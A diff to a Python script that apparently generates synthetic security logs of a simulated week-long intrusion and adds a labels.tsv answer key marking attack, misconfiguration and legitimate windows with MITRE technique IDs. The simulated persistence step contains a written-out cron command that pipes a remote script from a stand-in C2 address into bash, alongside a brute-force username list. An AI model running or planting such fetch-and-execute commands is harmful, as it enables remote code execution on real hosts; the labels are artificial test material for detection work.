@@ -987,6 +987,7 @@ def story_phish_to_fileserver() -> None:
     d.activity(at(FRI, 13, 0), at(FRI, 17, 30), 5)
     t_end = at(FRI, 17, 33, 51.0)
     d.end(t_end)
+    STORY_WINDOWS["ws01-fri"] = (t_logon, t_end + timedelta(seconds=6))
     FS01.logoff(t_end + timedelta(seconds=3.9), u, 3, fs_lid)
 
 
@@ -1001,6 +1002,7 @@ def story_svc_backup_windows() -> None:
     rng = rstream("story-svc-backup")
     # 16:41 it_admin rotates svc_backup's password on the DC (the cause; legitimate by itself)
     t = at(MON, 16, 41, 7.3)
+    STORY_WINDOWS["pw-rotation"] = (t, t + timedelta(seconds=1))
     DC01.emit(t, 4724, SEC, {"TargetUserName": "svc_backup", "TargetDomainName": DOMAIN,
                              "TargetSid": sid("svc_backup"), "SubjectUserSid": sid("it_admin"),
                              "SubjectUserName": "it_admin", "SubjectDomainName": DOMAIN,
@@ -1372,7 +1374,7 @@ def web01_background(pids: Pids) -> None:
     linux_daily(WEB_SYS, WEB_AUTH, pids, rng, RSYSLOGD)
     for day in range(5):
         # apt talks to the Debian mirror every morning
-        conn(at(day, 6, 1) + timedelta(minutes=rng.uniform(0, 45)), IP["web01"], rng.randint(40000, 60000),
+        conn(at(day, 6, 15) + timedelta(minutes=rng.uniform(0, 30)), IP["web01"], rng.randint(40000, 60000),
              DEBIAN_MIRROR, 80, "tcp", "http", rng.uniform(0.8, 4), rng.randint(900, 3000),
              rng.randint(40_000, 2_000_000))
         # the web team deploys from the admin workstation (publickey) and reloads Apache via sudo
@@ -1388,7 +1390,11 @@ def web01_background(pids: Pids) -> None:
                                                              "Reloaded The Apache HTTP Server.")))
         # web01 resolves through a public resolver
         for _ in range(6):
-            conn(at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000)), IP["web01"],
+            t = at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000))
+            if t.hour % 6 == 0 and 2 <= t.minute <= 12 or at(TUE, 2, 0) <= t <= at(TUE, 2, 50) \
+                    or at(WED, 1, 5) <= t <= at(WED, 1, 25):
+                continue  # keep the labelled attack windows free of unrelated web01 flows
+            conn(t, IP["web01"],
                  rng.randint(30000, 60000), DNS_FORWARDER, 53, "udp", "dns", rng.uniform(0.005, 0.03),
                  rng.randint(30, 60), rng.randint(60, 200))
 
@@ -1529,6 +1535,7 @@ BRUTE_USERS = ["admin", "test", "user", "ubuntu", "oracle", "postgres", "git", "
                "nagios", "minecraft", "steam", "vagrant", "docker", "administrator", "www", "user1",
                "test1", "oracle1", "ec2-user", "centos", "debian", "ftp", "operator", "sysadmin", "ts3"]
 STORY_LINUX: dict[str, tuple[datetime, datetime]] = {}
+CRON_BEACONS: list[datetime] = []
 
 
 def story_web01(pids: Pids) -> None:
@@ -1662,21 +1669,20 @@ def story_web01(pids: Pids) -> None:
         (163.9, "/home/deploy", "/bin/bash"),
     ], between=during)
     STORY_LINUX["web01-intrusion"] = (t_first, t0 + timedelta(seconds=402.0))
-    # hourly persistence until the end of the capture: curl | bash from the C2 (T1053.003, T1105)
-    t = at(TUE, 3, 7, 1.0)
-    first_cron = t
+    # persistence: every 6 hours (7 */6 * * *) curl | bash from the C2 (T1053.003, T1105)
+    t = at(TUE, 6, 7, 1.0)
     while t <= WEEK_END:
         cron_job(WEB_AUTH, WEB_SYS, pids, t, "root", 0, "curl -s http://198.51.100.23/u.sh | bash",
                  rng.uniform(0.4, 1.5))
         conn(t + timedelta(seconds=0.1), IP["web01"], rng.randint(40000, 60000), C2, 80, "tcp", "http",
              rng.uniform(0.15, 0.6), 86, rng.randint(300, 420))
-        t += timedelta(hours=1)
+        CRON_BEACONS.append(t)
+        t += timedelta(hours=6)
     # Wednesday 01:12 the attacker comes back as root with the planted key (T1098.004, T1078)
     t = at(WED, 1, 12, 33.0)
     ssh_session(pids, rng, t, "root", 0, A, "publickey", 312.0, next_session(),
                 key_fp="RSA SHA256:3nVv2vYbq0a9oQ6wqXc1bWm8y5kP7e2GZsJrT4hLdUw")
     STORY_LINUX["web01-root-return"] = (t, t + timedelta(seconds=312.0))
-    STORY_LINUX["web01-cron"] = (first_cron, WEEK_END)
     del t_web_end
 
 
@@ -1758,6 +1764,84 @@ def linux_all() -> None:
 # main
 # --------------------------------------------------------------------------------------------
 
+# --------------------------------------------------------------------------------------------
+# labels.tsv
+# --------------------------------------------------------------------------------------------
+
+def _floor(t: datetime, margin_min: float) -> str:
+    t = (t - timedelta(minutes=margin_min)).replace(second=0, microsecond=0)
+    return t.strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+def _ceil(t: datetime, margin_min: float) -> str:
+    t = t + timedelta(minutes=margin_min)
+    if t.second or t.microsecond:
+        t = t.replace(second=0, microsecond=0) + timedelta(minutes=1)
+    return t.strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+WEB01_TECH = "T1595.002,T1190,T1110.001,T1078,T1548.003,T1105,T1098.004,T1136.001,T1053.003"
+WS01_TECH = ("T1566.001,T1204.002,T1059.001,T1027,T1071.001,T1547.001,T1548.002,T1003.001,T1105,"
+             "T1021.002,T1569.002")
+FS01_TECH = "T1021.002,T1569.002,T1078,T1087.002"
+
+
+def labels() -> list[list[str]]:
+    rows: list[list[str]] = []
+
+    def row(host, user, t0, t1, cause, tech, risk, story, margin=3.0):
+        rows.append([host, user, _floor(t0, margin), _ceil(t1, margin), cause, tech, risk, story])
+
+    # web01 intrusion: scan -> brute force -> deploy login -> sudo, tools, keys, account, cron
+    a, b = STORY_LINUX["web01-intrusion"]
+    row("web01", "", a, b, "malicious", WEB01_TECH, "critical", "web01-intrusion")
+    row(IP["web01"], "", a, b, "malicious", "T1105,T1071.001", "critical", "web01-intrusion")
+    week = ["2026-03-02T00:00:00Z", "2026-03-06T23:59:59Z"]
+    rows.append([ATTACKER, "", *week, "malicious",
+                 "T1595.002,T1190,T1110.001,T1078,T1098.004", "critical", "web01-intrusion"])
+    a, b = STORY_LINUX["web01-root-return"]
+    row("web01", "root", a, b, "malicious", "T1078,T1098.004", "critical", "web01-intrusion")
+    for t in CRON_BEACONS:
+        row("web01", "", t, t, "malicious", "T1053.003,T1105", "high", "web01-intrusion", margin=2.0)
+        row(IP["web01"], "", t, t, "malicious", "T1053.003,T1105", "high", "web01-intrusion", margin=2.0)
+    # WS01 phishing -> credential dumping -> PsExec to FS01
+    a, b = STORY_WINDOWS["ws01"]
+    row("WS01", "", a, b, "malicious", WS01_TECH, "critical", "ws01-phish-lateral")
+    fa, fb = STORY_WINDOWS["fs01"]
+    row("FS01", "", fa, fb, "malicious", FS01_TECH, "critical", "ws01-phish-lateral")
+    row("DC01", "alice", fa, fb, "malicious", "T1021.002,T1087.002", "high", "ws01-phish-lateral")
+    _, thu_end = STORY_WINDOWS["ws01-thu-end"]
+    row("WS01", "alice", b, thu_end, "malicious", "T1071.001", "high", "ws01-phish-lateral")
+    fri0, fri1 = STORY_WINDOWS["ws01-fri"]
+    row("WS01", "alice", fri0, fri1, "malicious", "T1547.001,T1059.001,T1027,T1071.001", "high",
+        "ws01-phish-lateral")
+    # svc_backup stale password
+    a, b = STORY_WINDOWS["svc_backup"]
+    for host, user in (("FS01", "svc_backup"), ("DC01", "svc_backup"), ("backup01", ""),
+                       (IP["BACKUP01"], "")):
+        row(host, user, a, b, "misconfiguration", "", "medium", "svc-backup-stale-password")
+    # WS02 clock skew
+    a, b = STORY_WINDOWS["ws02-skew"]
+    for host, user in (("WS02", ""), ("DC01", "bob"), ("DC01", "ws02$")):
+        row(host, user, a, b, "misconfiguration", "", "low", "ws02-clock-skew")
+    # legitimate look-alikes
+    a, b = STORY_WINDOWS["vendor-task"]
+    row("WS02", "it_admin", a, b, "legitimate", "T1053.005", "low", "it-admin-vendor-task")
+    a, b = STORY_WINDOWS["pw-rotation"]
+    row("DC01", "it_admin", a, b, "legitimate", "T1098", "low", "svc-backup-password-rotation")
+    rows.append(["*", "", *week, "legitimate", "", "low", "background"])
+    return rows
+
+
+def write_labels(path: str) -> int:
+    rows = labels()
+    with open(path, "w", encoding="utf-8", newline="\n") as fh:
+        fh.write("host\tuser\tstart\tend\tcause\ttechniques\trisk\tstory\n")
+        for r in rows:
+            fh.write("\t".join(r) + "\n")
+    return len(rows)
+
+
 def write_zeek(path: str) -> int:
     ZEEK.sort(key=lambda r: (r[0], r[1][1]))
     opened = WEEK_START.strftime("%Y-%m-%d-%H-%M-%S")
@@ -1805,6 +1889,7 @@ def main() -> None:
             fh.write(line + "\n")
     counts["web/access.log"] = len(ACCESS)
     counts["network/conn.log"] = write_zeek(out("network", "conn.log"))
+    counts["labels.tsv (rows)"] = write_labels(out("labels.tsv"))
     for k, v in counts.items():
         print(f"{v:6d}  {k}")
 
